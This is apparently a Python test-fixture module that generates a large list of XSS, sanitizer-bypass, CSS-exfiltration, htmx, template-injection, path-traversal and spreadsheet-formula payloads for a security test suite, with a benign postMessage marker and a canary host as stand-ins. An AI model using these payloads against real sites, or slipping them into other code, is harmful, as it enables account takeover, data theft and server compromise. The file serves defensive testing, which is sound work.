"""Payloads: what strangers write so that our page runs it or fetches something; of the literature, and of our own.

`CALL` stands for a script that tells on itself, `EVIL` for an address of theirs. From: the OWASP and PortSwigger cheat
sheets, Heiderich's html5sec and mXSS papers, Bentkowski's bypasses of DOMPurify, 0xsobky's polyglot, CVEs of webmails
in `threats.md`; and what htmx, Jinja and this screen's own attributes invite.
"""

import base64
from collections.abc import Sequence
from html import escape
from urllib.parse import quote

CALL = "parent.postMessage(`pwned`,`*`)"
EVIL = "http://canary.example/x"

_ELEMENTS = r'''
<script>CALL</script>
<ScRiPt>CALL</sCrIpT >
<script src=EVIL></script>
<script src=//canary.example/x.js></script>
<script>CALL//
<script/x>CALL</script>
<script type=module>import "EVIL"</script>
<script type="text/javascript" charset=utf-7>+ADw-script+AD4-CALL</script>
<scr<script>ipt>CALL</scr</script>ipt>
<<script>CALL//<</script>
"><script>CALL</script>
'><script>CALL</script>
--><script>CALL</script>
]]><script>CALL</script>
</title><script>CALL</script>
</textarea><script>CALL</script>
</style><script>CALL</script>
</noscript><script>CALL</script>
</select></option><script>CALL</script>
</script><script>CALL</script>
</body></html><script>CALL</script>
" autofocus onfocus=CALL x="
' autofocus onfocus=CALL x='
` onmouseover=CALL x=`
" onclick=CALL style="position:fixed;inset:0"
x" onerror="CALL" src="x
&lt;script&gt;CALL&lt;/script&gt;
&#60;script&#62;CALL&#60;/script&#62;
%3Cscript%3ECALL%3C/script%3E
\x3cscript\x3eCALL\x3c/script\x3e
\u003cscript\u003eCALL\u003c/script\u003e
<img src=x onerror=CALL>
<img src=x onerror="CALL"//
<img/src=x/onerror=CALL>
<img	src=x	onerror	=	CALL>
<img src="x` `<script>CALL</script>"` `>
<img """><script>CALL</script>">
<img src=EVIL>
<img srcset="EVIL 1x, EVIL?2 2x">
<img src=x:x onerror=CALL//>
<img lowsrc=EVIL dynsrc=EVIL>
<picture><source srcset=EVIL><img src=EVIL></picture>
<input type=image src=EVIL>
<input autofocus onfocus=CALL>
<select autofocus onfocus=CALL>
<textarea autofocus onfocus=CALL>
<keygen autofocus onfocus=CALL>
<button autofocus onfocus=CALL>x</button>
<button popovertarget=x>x</button><div popover id=x onbeforetoggle=CALL>x</div>
<body onload=CALL>
<body background=EVIL>
<body onpageshow=CALL>
<frameset onload=CALL>
<frame src=EVIL>
<iframe src=javascript:CALL></iframe>
<iframe src=EVIL></iframe>
<iframe srcdoc="<script>CALL</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=CALL&gt;"></iframe>
<iframe src="data:text/html,<script>CALL</script>"></iframe>
<iframe/onload=CALL>
<object data=javascript:CALL></object>
<object data=EVIL type=text/html></object>
<object data="data:text/html;base64,B64"></object>
<embed src=javascript:CALL>
<embed src=EVIL type=image/svg+xml>
<embed code=EVIL allowscriptaccess=always>
<applet code=EVIL archive=EVIL></applet>
<portal src=EVIL></portal>
<fencedframe src=EVIL></fencedframe>
<video src=EVIL autoplay></video>
<video poster=EVIL></video>
<video><source onerror=CALL></video>
<audio src=EVIL onerror=CALL autoplay></audio>
<track src=EVIL>
<link rel=stylesheet href=EVIL>
<link rel=preload as=image href=EVIL>
<link rel=prefetch href=EVIL>
<link rel=modulepreload href=EVIL>
<link rel=import href=EVIL>
<link rel=icon href=EVIL>
<link rel=manifest href=EVIL>
<base href=http://canary.example/><img src=x>
<base href="javascript:CALL//"><a href=#>x</a>
<meta http-equiv=refresh content="0;url=EVIL">
<meta http-equiv=refresh content="0;url=javascript:CALL">
<meta http-equiv=refresh content="0;url=data:text/html;base64,B64">
<meta http-equiv=Content-Security-Policy content="default-src *">
<meta name=referrer content=unsafe-url>
<form action=EVIL><input name=a><button>x</button></form>
<form id=x></form><button form=x formaction=javascript:CALL>x</button>
<form action=javascript:CALL><input type=submit autofocus></form>
<isindex type=image src=1 onerror=CALL>
<a href=javascript:CALL>x</a>
<a href="java	script:CALL">x</a>
<a href="&#106;&#97;&#118;&#97;script:CALL">x</a>
<a href="JaVaScRiPt:CALL">x</a>
<a href=" javascript:CALL">x</a>
<a href="javascript&colon;CALL">x</a>
<a href="data:text/html,<script>CALL</script>">x</a>
<a href="data:text/html;base64,B64">x</a>
<a href="vbscript:CALL">x</a>
<a href="blob:EVIL">x</a>
<a href="//canary.example/" target=_top ping=EVIL>x</a>
<a href="http://canary.example/%0d%0aSet-Cookie:a=b">x</a>
<a attributionsrc=EVIL href=#>x</a>
<area href=javascript:CALL shape=default>
<details open ontoggle=CALL>x</details>
<dialog open onclose=CALL>x</dialog>
<marquee onstart=CALL>x</marquee>
<marquee loop=1 width=0 onfinish=CALL>x</marquee>
<table background=EVIL><td background=EVIL>x</table>
<bgsound src=EVIL>
<layer src=EVIL></layer>
<image src=x onerror=CALL>
<image src=EVIL>
<xss onfocus=CALL tabindex=1 autofocus>x</xss>
<x contenteditable onfocus=CALL autofocus>x
<p onmouseover=CALL>x</p>
<template><script>CALL</script></template>
<template shadowrootmode=open><script>CALL</script><img src=EVIL></template>
<slot onslotchange=CALL>x</slot>
<plaintext><script>CALL</script>
<xmp><script>CALL</script></xmp>
<listing><script>CALL</script></listing>
<!--><script>CALL</script>-->
<!--[if IE]><script>CALL</script><![endif]-->
<!-- --!><script>CALL</script> -->
<![CDATA[<script>CALL</script>]]>
<?xml-stylesheet href="javascript:CALL"?>
<?php echo '<script>CALL</script>' ?>
<!DOCTYPE x [<!ENTITY y SYSTEM "EVIL">]><x>&y;</x>
<xml id=x><i><b>&lt;img src=x onerror=CALL&gt;</b></i></xml>
'''
_FOREIGN = r"""
<svg onload=CALL>
<svg/onload=CALL//
<svg><script>CALL</script></svg>
<svg><script href=EVIL /></svg>
<svg><script xlink:href=data:,CALL /></svg>
<svg><animate onbegin=CALL attributeName=x dur=1s>
<svg><set onbegin=CALL attributeName=x>
<svg><a xlink:href=javascript:CALL><text y=20>x</text></a></svg>
<svg><a><animate attributeName=href values=javascript:CALL /><text y=20>x</text></a></svg>
<svg><image href=EVIL /></svg>
<svg><use href=EVIL#x /></svg>
<svg><use href="data:image/svg+xml;base64,B64#x"/></svg>
<svg><feImage href=EVIL /></svg>
<svg><filter id=f><feImage xlink:href=EVIL /></filter><rect filter=url(#f) width=9 height=9 /></svg>
<svg><style>@import 'EVIL';</style></svg>
<svg><style><img src=x onerror=CALL></style></svg>
<svg><foreignObject><iframe srcdoc="<script>CALL</script>"></iframe></foreignObject></svg>
<svg><desc><![CDATA[</desc><script>CALL</script>]]></svg>
<svg></p><style><a id="</style><img src=1 onerror=CALL>">
<svg><title><style><a title="</style></title><img src=x onerror=CALL>">
<math><mtext></math><img src=x onerror=CALL>
<math href=javascript:CALL>x</math>
<math><maction actiontype=statusline#EVIL xlink:href=javascript:CALL>x</maction></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=CALL&gt;">
<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror=CALL">
<math><annotation-xml encoding="text/html"><xmp>&lt;/xmp&gt;&lt;img src=x onerror=CALL&gt;</xmp></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=CALL>
<noscript><p title="</noscript><img src=x onerror=CALL>">
<noembed><img title="</noembed><img src=x onerror=CALL>"></noembed>
<style><img src="</style><img src=x onerror=CALL//">
<style>*{background:url(EVIL)}</style>
<style>@import url(EVIL);</style>
<style>@font-face{font-family:x;src:url(EVIL)}body{font-family:x}</style>
<style>input[value^=a]{background:url(EVIL)}</style>
<style>li{list-style:url(EVIL)}</style><li>x
<div style="background:url(EVIL)">x</div>
<div style="background:url&#40;EVIL&#41;">x</div>
<div style="background:\75rl(EVIL)">x</div>
<div style="background:u/**/rl(EVIL)">x</div>
<div style="width:expression(CALL)">x</div>
<div style="behavior:url(EVIL)">x</div>
<div style="-moz-binding:url(EVIL)">x</div>
<div style="background-image:image-set('EVIL' 1x)">x</div>
<div style="cursor:url(EVIL),auto">x</div>
<div style="content:url(EVIL)">x</div>
<div style="mask:url(EVIL)">x</div>
<div style="--x:url(EVIL);background:var(--x)">x</div>
<div style="border-image:url(EVIL) 1">x</div>
<div style="font-family:'x';src:url(EVIL)">x</div>
<div style="position:fixed;inset:0;z-index:99999;background:#fff"><a href=EVIL>Log in again</a></div>
<p style="animation:x" onanimationstart=CALL>x</p>
"""
_OURS = r"""
{{7*7}}
{{ ''.__class__.__mro__[1].__subclasses__() }}
{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}
{% include "base.html" %}{# x #}
{{ request.app.state.settings }}{{ csrf }}
${7*7}#{7*7}<%= 7*7 %>@(7*7)
%(name)s %s %(csrf)s {name} {0.__class__} {num}
<b hx-get=EVIL hx-trigger=load>x</b>
<b hx-get=/logout hx-trigger=load hx-swap=outerHTML>x</b>
<b hx-post=/next hx-trigger="load">x</b>
<b hx-on::load="CALL" hx-on:click="CALL">x</b>
<b data-hx-on:load="CALL" data-hx-get=EVIL data-hx-trigger=load>x</b>
<b hx-vals="js:{x:CALL}" hx-get=/ hx-trigger=load>x</b>
<b hx-trigger="load[CALL]" hx-get=/inbox>x</b>
<b hx-headers='js:{"x":CALL}' hx-get=/ hx-trigger=load>x</b>
<b hx-sse:connect=EVIL>x</b>
<b hx-swap-oob=true id=thread>x</b>
<b hx-swap-oob="innerHTML:#composer">x</b>
<hx-partial hx-target=body hx-swap=innerHTML><script>CALL</script></hx-partial>
" hx-get="EVIL" hx-trigger="load
' hx-get='EVIL' hx-trigger='load
<meta name=htmx-config content='{"allowEval":true,"selfRequestsOnly":false}'>
<dialog data-opens><form action=EVIL></form></dialog>
<b data-key=e data-open=palette data-presses=#log-out>x</b>
<b id=menus>x</b><b id=csrf>x</b><form id=composer action=EVIL></form>
<form name=body><input name=parentNode><img name=getElementById></form>
<a id=htmx><a id=htmx name=config href=EVIL>
</ul></section></main><main id=main class=workspace>
[[ x ]] @@x@@ <%x%> <#assign x=1>
jaVasCript:/*-/*`/*\`/*'/*"/**/(/* */oNcliCk=CALL )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\x3csVg/<sVg/oNloAd=CALL//>\x3e
javascript:"/*'/*`/*--></noscript></title></textarea></style></template></noembed></script><html onmouseover=CALL//
';CALL//';CALL//";CALL//--></SCRIPT>">'><SCRIPT>CALL</SCRIPT>
'-CALL-'
";CALL;//
\";CALL;//
javascript:CALL
data:text/html,<script>CALL</script>
//canary.example/x
https:canary.example/x
/\canary.example/x
../../../../etc/passwd
..\..\windows\win.ini
a.html?x=<script>CALL</script>.png
a"b'c`d<e>f&g/h\i|j;k.svg
.htaccess
CON
"; filename="x.html
x.png<img src=x onerror=CALL>
=cmd|' /C calc'!A0
+ADw-script+AD4-CALL+ADw-/script+AD4-
¼script¾CALL¼/script¾
＜script＞CALL＜/script＞
‹img src=x onerror=CALL›
"""  # noqa: E501 - a polyglot is one line
_EVENTS = (  # noqa: SIM905 - a list of forty words
    "abort afterprint animationend auxclick beforeinput beforematch blur canplay click contextmenu copy cut dblclick "
    "drag drop error focus focusin formdata gotpointercapture hashchange input keydown load loadstart message "
    "mousemove paste pointerenter pointerrawupdate resize scroll scrollend securitypolicyviolation selectstart submit "
    "touchstart transitionend unload wheel"
).split()


def _own() -> list[str]:
    """Those that no line of text can hold, or that are made of others."""
    script = f"<script>{CALL}</script>"
    picture = f"<img src=x onerror={CALL}>"
    twice = "".join(f"&#x{ord(sign):x};" for sign in picture)
    return [
        f"<b tabindex=1 autofocus {' '.join(f'on{each}={CALL}' for each in _EVENTS)}>x</b>",
        *(f"<img src=x alt=x on{each}={CALL}>" for each in _EVENTS[:12]),
        quote(script), quote(quote(script)), escape(script), escape(escape(picture)), twice,
        f"<scr\0ipt>{CALL}</scr\0ipt>", f"<img src=x onerror\0={CALL}>", f"\0<script>{CALL}</script>",
        f"java\0script:{CALL}",
        f"\u2028{script}\u2029", f"x\u2028*/;{CALL}//", f"\x0b<img\x0csrc=x\x0conerror={CALL}>", f"\ufeff{script}",
        f"\u202e{script[::-1]}\u202c", "\u202egnp.exe", f"\u2066{script}\u2069", f"\x1b[31m{script}",
        f"{'A' * 3000}{script}", f"{'<b>' * 150}{picture}", f"<a title='{'x' * 2500}'{picture}",
        f"<img src='{'x' * 900}' onerror={CALL}>", f"<!--{'-' * 900}>{script}",
        f"\r\n\r\n{script}", f"x\r\nBcc: eva@post.example\r\n\r\n{script}", f"<script>{CALL}\n</script\n>",
        f"𝒿avascript:{CALL}", f"<ſcript>{CALL}</ſcript>", f"<img src=x onerror=\u00a0{CALL}>",
        "\ud7ff\ue000\ufdd0\ufffd",
    ]  # fmt: skip


def payloads() -> Sequence[str]:
    """Each of them once."""
    packed = base64.b64encode(f"<script>{CALL}</script>".encode()).decode()
    lines = [line for lines in (_ELEMENTS, _FOREIGN, _OURS) for line in lines.strip("\n").split("\n")]
    filled = [line.replace("CALL", CALL).replace("EVIL", EVIL).replace("B64", packed) for line in lines]
    return list(dict.fromkeys(filled + _own()))
